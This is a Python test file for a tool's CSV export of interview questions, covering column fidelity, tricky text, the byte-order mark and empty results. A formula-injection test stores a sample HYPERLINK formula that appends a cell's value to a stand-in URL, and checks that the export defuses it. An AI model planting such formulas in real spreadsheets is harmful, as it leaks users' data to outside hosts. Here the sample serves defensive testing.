"""The CSV: a column for every field of the questions' JSON, read back with Python's csv to
the same values; text that breaks naive CSV survives; the byte-order mark only when asked."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from conftest import run
from tricky import TRICKY, tricky_pack

from emprep.core.pack import Pack
from emprep.ui.export.spreadsheet import BOM, WORDS


def expected(name: str, value: Any) -> str:
    """What a JSON value looks like in its cell, as the module's docstring promises."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, list):
        items = [": ".join(v.values()) if isinstance(v, dict) else v for v in value]
        return (";" if name in WORDS else "\n").join(items)
    return str(value)


def both(*args: str) -> tuple[list[dict[str, str]], list[dict[str, Any]]]:
    r = run(*args, "questions", "--format", "csv")
    assert r.code == 0, r.stderr
    docs = json.loads(run(*args, "questions", "--format", "json").stdout)["questions"]
    return list(csv.DictReader(io.StringIO(r.stdout))), docs


def test_every_json_field_is_a_column_with_the_same_values(pack: Pack) -> None:
    rows, docs = both()
    assert list(rows[0]) == list(docs[0])
    assert "common" in rows[0] and "red_flags" in rows[0]
    assert len(rows) == len(pack.questions)
    for row, doc in zip(rows, docs, strict=True):
        assert row == {k: expected(k, v) for k, v in doc.items()}
    first = rows[0]
    assert first["tags"] == "Motivation"
    assert first["common"] in ("true", "false")
    assert first["points"].split("\n")[0].startswith(pack.questions[0].points[0].criterion + ": ")


def test_text_that_breaks_naive_csv_round_trips(pack_copy: Path) -> None:
    rows, docs = both("--data", str(tricky_pack(pack_copy)))
    assert rows[0]["text"] == TRICKY["text"]
    assert rows[0]["outline"] == TRICKY["outline"]
    assert rows[0]["follow_ups"].split("\n") == [
        'And the team\'s "why"?',
        "Tab\there, line",
        "there",
    ]
    assert rows[0]["tags"] == "Cover letter;C++ & Go"
    assert rows[0] == {k: expected(k, v) for k, v in docs[0].items()}


def test_a_byte_order_mark_only_when_asked() -> None:
    plain = run("questions", "--format", "csv").stdout
    marked = run("questions", "--format", "csv", "--bom").stdout
    assert not plain.startswith(BOM)
    assert marked == BOM + plain
    assert list(csv.reader(io.StringIO(marked.encode().decode("utf-8-sig")))) == list(
        csv.reader(io.StringIO(plain))
    )
    r = run("questions", "--format", "json", "--bom")
    assert (r.code, r.stderr) == (
        2,
        "emprep: error: --bom is for --format csv (Excel reads the mark as 'UTF-8')\n",
    )


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text() -> None:
    """A note (or a pack's text) starting with = + - @ would be a formula in Excel or
    LibreOffice; its cell starts with an apostrophe, which they show as text."""
    notes = {
        "rec-why-coursera": '=HYPERLINK("http://example.com/?"&A1,"click")',
        "rec-salary-expectations": "- ask the band first\n- then a range",
        "rec-strengths-weaknesses": "@SUM(1+1)",
        "rec-why-leaving": "+1 to the plan",
    }
    for qid, text in notes.items():
        assert run("note", qid, "--text", text).code == 0
    rows, docs = both()
    by_id = {row["id"]: row for row in rows}
    for qid, text in notes.items():
        assert by_id[qid]["note"] == "'" + text
    assert by_id["rec-why-coursera"]["minutes"] == "2"
    risky = [v for row in rows for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t")]
    assert risky == []
    others = [(row, doc) for row, doc in zip(rows, docs, strict=True) if row["id"] not in notes]
    assert all(row["note"] == expected("note", doc["note"]) for row, doc in others)


def test_a_filter_that_matches_nothing_still_names_the_columns() -> None:
    """No question matched: the file is its header row, as a spreadsheet or pandas expects of
    an empty table (a file with no header is no table at all to them)."""
    r = run("questions", "--search", "no such words anywhere", "--format", "csv")
    names = list(json.loads(run("questions", "--format", "json").stdout)["questions"][0])
    assert (r.code, r.stdout, r.stderr) == (0, ",".join(names) + "\n", "")
    reader = csv.DictReader(io.StringIO(r.stdout))
    assert (reader.fieldnames, list(reader)) == (names, [])
